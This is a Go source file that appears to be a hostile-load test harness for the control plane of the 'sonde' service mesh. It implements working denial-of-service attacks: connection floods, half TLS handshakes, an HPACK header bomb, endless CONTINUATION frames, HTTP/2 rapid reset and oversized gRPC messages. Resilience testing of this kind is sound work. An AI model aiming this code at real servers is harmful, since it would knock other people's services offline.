package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	agentv1 "github.com/sonde-mesh/sonde/api/agent/v1"
)

// An attack runs until its context ends.
type attack struct {
	name  string
	agent string // part of the name of a real agent to start during the attack, if any
	run   func(ctx context.Context, x *target)
}

func controlPlaneAttacks() []attack {
	agents := func(x *target) string { return x.Agents }
	return []attack{
		{name: "silent connections", agent: "silent", run: flood(agents, 2600, 400, nil)},
		{name: "silent connections from many addresses", agent: "many", run: flood(agents, 6000, 1000, fromAnywhere)},
		{name: "half a handshake", agent: "half", run: floodWith(agents, 1000, 300, sendHello)},
		{name: "one byte", run: floodWith(agents, 1000, 300, sendByte)},
		{name: "a handshake without a certificate", agent: "no-certificate", run: floodTLS(600, 150, asStranger, holdTLS)},
		{name: "half-closed TLS", run: floodTLS(300, 100, asStranger, halfClose)},
		{name: "headers that refer to others", run: floodTLS(60, 10, asStranger, http2Attack(bombHeaders))},
		{name: "headers that never end", run: floodTLS(60, 10, asStranger, http2Attack(endlessHeaders))},
		{name: "frames that ask nothing", run: floodTLS(60, 10, asStranger, http2Attack(idleFrames))},
		{name: "streams that are reset", run: floodTLS(60, 10, asStranger, http2Attack(rapidReset))},
		{name: "calls without a certificate", run: calls(8, adsWithoutCertificate)},
		{name: "joins with bad tokens", agent: "tokens", run: calls(8, badTokens)},
		{name: "half a request to join", run: floodTLS(300, 100, asStranger, http2Attack(halfJoin))},
		{name: "members that hold connections", run: floodTLS(400, 100, asMember, holdTLS)},
		{name: "members with headers that refer to others", run: floodTLS(60, 10, asMember, http2Attack(bombHeaders))},
		{name: "members with frames that ask nothing", run: floodTLS(60, 10, asMember, http2Attack(idleFrames))},
		{name: "members with streams that are reset", run: floodTLS(60, 10, asMember, http2Attack(rapidReset))},
		{name: "members with half a message on each stream", run: floodTLS(60, 10, asMember, http2Attack(halfMessages))},
		{name: "members that open sessions again and again", run: calls(8, reopenSessions)},
		{name: "members that join again and again", run: calls(8, joinAgain)},
	}
}

// pool holds connections until it is closed.
type pool struct {
	mu     sync.Mutex
	conns  []net.Conn
	closed bool
}

func (p *pool) add(c net.Conn) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.closed {
		_ = c.Close()
		return
	}
	p.conns = append(p.conns, c)
}

func (p *pool) close() {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.closed = true
	for _, c := range p.conns {
		_ = c.Close()
	}
}

// fromAnywhere returns one of many addresses of this host.
func fromAnywhere(n int) net.Addr {
	return &net.TCPAddr{IP: net.IPv4(127, byte(1+n>>16), byte(n>>8), byte(n))}
}

// flood opens connections at once, and then a number each second. It holds all of them.
func flood(at func(*target) string, atOnce, perSecond int, from func(n int) net.Addr) func(context.Context, *target) {
	return floodFrom(at, atOnce, perSecond, from, func(net.Conn) {})
}

func floodWith(at func(*target) string, atOnce, perSecond int, say func(net.Conn)) func(context.Context, *target) {
	return floodFrom(at, atOnce, perSecond, nil, say)
}

func floodFrom(at func(*target) string, atOnce, perSecond int, from func(n int) net.Addr, say func(net.Conn)) func(context.Context, *target) {
	return func(ctx context.Context, x *target) {
		var held pool
		defer held.close()
		repeat(ctx, atOnce, perSecond, 16, func(n int) {
			dialer := net.Dialer{Timeout: time.Second}
			if from != nil {
				dialer.LocalAddr = from(n)
			}
			c, err := dialer.DialContext(ctx, "tcp", at(x))
			if err != nil {
				return // the backlog is full, or the context has ended
			}
			held.add(c)
			say(c)
		})
	}
}

func asStranger(x *target, _ int) *tls.Config { return x.tls() }

func asMember(x *target, n int) *tls.Config { return x.tls(x.hostile[n%len(x.hostile)]) }

// floodTLS runs a function on connections after the handshake, and holds them.
func floodTLS(atOnce, perSecond int, as func(*target, int) *tls.Config, do func(context.Context, *tls.Conn)) func(context.Context, *target) {
	return func(ctx context.Context, x *target) {
		var held pool
		defer held.close()
		var running sync.WaitGroup
		defer running.Wait()
		repeat(ctx, atOnce, perSecond, 16, func(n int) {
			dialer := tls.Dialer{NetDialer: &net.Dialer{Timeout: 2 * time.Second}, Config: as(x, n)}
			dialing, cancel := context.WithTimeout(ctx, 5*time.Second)
			defer cancel()
			c, err := dialer.DialContext(dialing, "tcp", x.Agents)
			if err != nil {
				return
			}
			held.add(c)
			running.Go(func() { do(ctx, c.(*tls.Conn)) })
		})
		held.close() // ends the functions on them
	}
}

// repeat calls f in workers until ctx ends: a number of times at once, and then a number each
// second.
func repeat(ctx context.Context, atOnce, perSecond, workers int, f func(n int)) {
	numbers := make(chan int)
	var running sync.WaitGroup
	defer running.Wait()
	defer close(numbers)
	for range workers {
		running.Go(func() {
			for n := range numbers {
				f(n)
			}
		})
	}
	tick := time.NewTicker(time.Second / time.Duration(perSecond))
	defer tick.Stop()
	for n := 0; ; n++ {
		if n >= atOnce {
			select {
			case <-tick.C:
			case <-ctx.Done():
				return
			}
		}
		select {
		case numbers <- n:
		case <-ctx.Done():
			return
		}
	}
}

// sendHello sends a TLS ClientHello.
func sendHello(c net.Conn) {
	client, server := net.Pipe()
	go func() {
		_ = tls.Client(client, &tls.Config{ServerName: "sonde-cp.sonde.internal", NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS13}).
			HandshakeContext(context.Background())
		_ = client.Close()
	}()
	hello := make([]byte, 16<<10)
	n, _ := server.Read(hello) // a client writes it in one call
	_ = server.Close()
	_, _ = c.Write(hello[:n])
}

func sendByte(c net.Conn) { _, _ = c.Write([]byte{22}) }

func holdTLS(context.Context, *tls.Conn) {}

func halfClose(_ context.Context, c *tls.Conn) { _ = c.CloseWrite() }

// http2Attack is http2On over TLS.
func http2Attack(do func(context.Context, *http2.Framer) error) func(context.Context, *tls.Conn) {
	return func(ctx context.Context, c *tls.Conn) { http2On(do)(ctx, c) }
}

// http2On uses HTTP/2 on a connection, and drops received data.
func http2On(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		f := http2.NewFramer(c, c)
		if err := f.WriteSettings(); err != nil {
			return
		}
		read := make(chan struct{})
		go func() {
			defer close(read)
			_, _ = io.Copy(io.Discard, c)
		}()
		_ = do(ctx, f) // until the server closes the connection
		<-read
	}
}

// requestHeaders encodes the headers of a gRPC call, and additional headers.
func requestHeaders(method string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "cp"}, {Name: ":path", Value: method},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, more...) {
		_ = e.WriteField(h) // writes to a buffer
	}
	return block.Bytes()
}

// bombHeaders adds a short header to the connection's HPACK table, and refers to it 240,000 times with one byte. Each
// reference creates a field of 48 bytes, and another in the call's metadata.
func bombHeaders(_ context.Context, f *http2.Framer) error {
	first := requestHeaders(agentv1.AgentService_Join_FullMethodName, hpack.HeaderField{Name: "a", Value: "b"})
	rest := append(first, bytes.Repeat([]byte{0x80 | 62}, 240_000)...)
	size := 16 << 10
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: rest[:size]})
	for rest = rest[size:]; err == nil && len(rest) > 0; rest = rest[size:] {
		size = min(len(rest), 16<<10)
		err = f.WriteContinuation(1, size == len(rest), rest[:size])
	}
	return err
}

func endlessHeaders(ctx context.Context, f *http2.Framer) error {
	first := requestHeaders(agentv1.AgentService_Join_FullMethodName)
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}); err != nil {
		return err
	}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for n := 0; ctx.Err() == nil; n++ {
		block.Reset()
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", 1000), Sensitive: true}) // writes to a buffer
		if err := f.WriteContinuation(1, false, block.Bytes()); err != nil {
			return err
		}
	}
	return ctx.Err()
}

func idleFrames(ctx context.Context, f *http2.Framer) error {
	for n := uint32(0); ctx.Err() == nil; n++ {
		for _, err := range []error{
			f.WritePriority(1+2*(n%1000), http2.PriorityParam{Weight: 1}), f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + n%1000}),
			f.WriteWindowUpdate(0, 1), f.WritePing(false, [8]byte{}), f.WriteRawFrame(0xfa, 0, 0, make([]byte, 100)),
		} {
			if err != nil {
				return err
			}
		}
	}
	return ctx.Err()
}

func rapidReset(ctx context.Context, f *http2.Framer) error {
	headers := requestHeaders(agentv1.AgentService_Join_FullMethodName)
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		headers = []byte{0x83, 0x87, 0xbe, 0xbf, 0xc0, 0xc1} // any valid headers: the attack is about streams
	}
	return ctx.Err()
}

// halfJoin announces a message, and sends a part of it on each stream.
func halfJoin(_ context.Context, f *http2.Framer) error {
	for id := uint32(1); id < 9; id += 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestHeaders(agentv1.AgentService_Join_FullMethodName), EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteData(id, false, append([]byte{0, 0, 0x3f, 0xff, 0xff}, make([]byte, 8<<10)...)); err != nil {
			return err
		}
	}
	return nil
}

// halfMessages sends most of a large message on each stream that a connection allows.
func halfMessages(_ context.Context, f *http2.Framer) error {
	const size = 3 << 20
	for id := uint32(1); id < 33; id += 2 {
		method := discoveryv3.AggregatedDiscoveryService_DeltaAggregatedResources_FullMethodName
		if id%4 == 1 {
			method = agentv1.AgentService_Renew_FullMethodName
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestHeaders(method), EndHeaders: true}); err != nil {
			return err
		}
		data := append([]byte{0, size >> 24, size >> 16 & 0xff, size >> 8 & 0xff, size & 0xff}, make([]byte, size-1)...)
		for ; len(data) > 0; data = data[min(len(data), 16<<10):] { // ignores the window
			if err := f.WriteData(id, false, data[:min(len(data), 16<<10)]); err != nil {
				return err
			}
		}
	}
	return nil
}

// calls makes calls on its own connections, as fast as possible.
func calls(connections int, call func(context.Context, *target, int)) func(context.Context, *target) {
	return func(ctx context.Context, x *target) {
		var running sync.WaitGroup
		for n := range connections {
			running.Go(func() { call(ctx, x, n) })
		}
		running.Wait()
	}
}

func adsWithoutCertificate(ctx context.Context, x *target, _ int) {
	conn := x.dial()
	defer func() { _ = conn.Close() }()
	for ctx.Err() == nil {
		_ = askADS(ctx, conn, "default/"+strings.Repeat("n", 900)) // the call is refused
	}
}

func badTokens(ctx context.Context, x *target, _ int) {
	conn := x.dial()
	defer func() { _ = conn.Close() }()
	for n := 0; ctx.Err() == nil; n++ {
		_, _ = agentv1.NewAgentServiceClient(conn).Join(ctx, &agentv1.JoinRequest{
			Mesh: "default", Name: fmt.Sprint("web-", n), Token: strings.Repeat("t", 8000), ControlPlaneAddress: x.Agents,
		})
	}
}

func reopenSessions(ctx context.Context, x *target, n int) {
	conn := x.dial(x.hostile[n%len(x.hostile)])
	defer func() { _ = conn.Close() }()
	for ctx.Err() == nil {
		session, err := agentv1.NewAgentServiceClient(conn).Session(ctx)
		if err != nil {
			continue
		}
		_ = session.Send(&agentv1.AgentMessage{Message: &agentv1.AgentMessage_Hello{Hello: &agentv1.Hello{}}})
		_, _ = session.Recv()
		_ = session.CloseSend()
	}
}

func joinAgain(ctx context.Context, x *target, n int) {
	conn := x.dial(x.hostile[n%len(x.hostile)])
	defer func() { _ = conn.Close() }()
	for ctx.Err() == nil {
		_, _ = agentv1.NewAgentServiceClient(conn).Join(ctx, &agentv1.JoinRequest{
			Mesh: "default", Name: fmt.Sprint("hostile-", n%len(x.hostile)), ControlPlaneAddress: "nowhere",
		})
	}
}
